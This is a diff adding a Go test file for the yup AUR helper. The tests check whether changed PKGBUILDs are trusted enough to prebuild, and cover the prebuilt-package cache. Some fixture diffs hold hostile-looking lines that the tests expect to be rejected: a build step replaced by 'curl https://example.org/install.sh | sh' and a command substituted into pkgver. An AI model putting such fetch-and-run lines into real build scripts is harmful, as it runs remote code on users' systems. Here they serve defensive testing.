@@ -0,0 +1,140 @@
+package sync
+
+import (
+	"errors"
+	"reflect"
+	"testing"
+
+	"github.com/ericm/yup/config"
+)
+
+const bumpDiff = `diff --git a/.SRCINFO b/.SRCINFO
+index 1111111..2222222 100644
+--- a/.SRCINFO
++++ b/.SRCINFO
+@@ -3 +3 @@
+-	pkgver = 1.0.0
++	pkgver = 1.1.0
+@@ -9 +9 @@
+-	source = https://example.org/foo-1.0.0.tar.gz
++	source = https://example.org/foo-1.1.0.tar.gz
+diff --git a/PKGBUILD b/PKGBUILD
+index 3333333..4444444 100644
+--- a/PKGBUILD
++++ b/PKGBUILD
+@@ -3,2 +3,2 @@
+-pkgver=1.0.0
+-pkgrel=2
++pkgver=1.1.0
++pkgrel=1
+@@ -12,2 +12,2 @@
+-sha256sums=('0a2f6c5e8d3b1a4c7e9f0b2d4c6a8e1f3b5d7c9e0a2f4c6e8d0b1a3c5e7f9a1b'
+-            'SKIP')
++sha256sums=('9f8e7d6c5b4a39281706f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0'
++            'SKIP')
+`
+
+const buildDiff = `diff --git a/PKGBUILD b/PKGBUILD
+index 3333333..4444444 100644
+--- a/PKGBUILD
++++ b/PKGBUILD
+@@ -3 +3 @@
+-pkgver=1.0.0
++pkgver=1.1.0
+@@ -20 +20 @@
+-  make
++  curl https://example.org/install.sh | sh
+`
+
+const newFileDiff = `diff --git a/foo.install b/foo.install
+new file mode 100644
+index 0000000..5555555
+--- /dev/null
++++ b/foo.install
+@@ -0,0 +1 @@
++post_install() { true; }
+`
+
+const pkgverDiff = `diff --git a/PKGBUILD b/PKGBUILD
+index 3333333..4444444 100644
+--- a/PKGBUILD
++++ b/PKGBUILD
+@@ -3 +3 @@
+-pkgver=1.0.0
++pkgver=$(curl https://example.org)
+`
+
+func TestTrusted(t *testing.T) {
+	config.GetConfig().UserFile.PrebuildAllow = []string{"allowed"}
+	state := &config.State{Reviewed: map[string]string{"foo": "aaa", "allowed": "aaa"}}
+	diffs := map[string]string{"bump": bumpDiff, "build": buildDiff, "newfile": newFileDiff, "pkgver": pkgverDiff}
+
+	tests := []struct {
+		base, commit string
+		want         bool
+	}{
+		{"allowed", "zzz", true},
+		{"foo", "aaa", true},
+		{"foo", "bump", true},
+		{"foo", "build", false},
+		{"foo", "newfile", false},
+		{"foo", "pkgver", false},
+		{"foo", "broken", false},
+		{"bar", "bump", false},
+	}
+	for _, test := range tests {
+		diff := func(from, to string) (string, error) {
+			if from != "aaa" {
+				t.Errorf("%s: diffed from %s", test.commit, from)
+			}
+			if d, ok := diffs[to]; ok {
+				return d, nil
+			}
+			return "", errors.New("unknown revision")
+		}
+		if got := trusted(test.base, test.commit, state, diff); got != test.want {
+			t.Errorf("trusted(%s, %s) = %v, want %v", test.base, test.commit, got, test.want)
+		}
+	}
+}
+
+func TestUsable(t *testing.T) {
+	built := config.Prebuilt{Commit: "aaa", Files: []string{"/cache/foo-1.1.0-1-x86_64.pkg.tar.zst"}}
+	exists := func(string) bool { return true }
+	missing := func(string) bool { return false }
+
+	tests := []struct {
+		name   string
+		built  config.Prebuilt
+		head   string
+		exists func(string) bool
+		want   bool
+	}{
+		{"same commit", built, "aaa", exists, true},
+		{"merged since", built, "bbb", exists, false},
+		{"files removed", built, "aaa", missing, false},
+		{"nothing built", config.Prebuilt{Commit: "aaa"}, "aaa", exists, false},
+	}
+	for _, test := range tests {
+		if got := usable(test.built, test.head, test.exists); got != test.want {
+			t.Errorf("%s: got %v, want %v", test.name, got, test.want)
+		}
+	}
+}
+
+func TestInstallFiles(t *testing.T) {
+	files := []string{
+		"/cache/prebuilt/python-foo-1.0-1-any.pkg.tar.zst",
+		"/cache/prebuilt/python-foo-docs-1.0-1-any.pkg.tar.zst",
+		"/cache/prebuilt/python-foo-tests-1:1.0-1-any.pkg.tar.xz",
+	}
+	installed := func(name string) bool { return name == "python-foo-tests" }
+	got := installFiles(files, "python-foo", installed)
+	want := []string{files[0], files[2]}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %v, want %v", got, want)
+	}
+	if got := installFiles(files, "python-bar", func(string) bool { return false }); len(got) != 0 {
+		t.Errorf("other target: got %v", got)
+	}
+}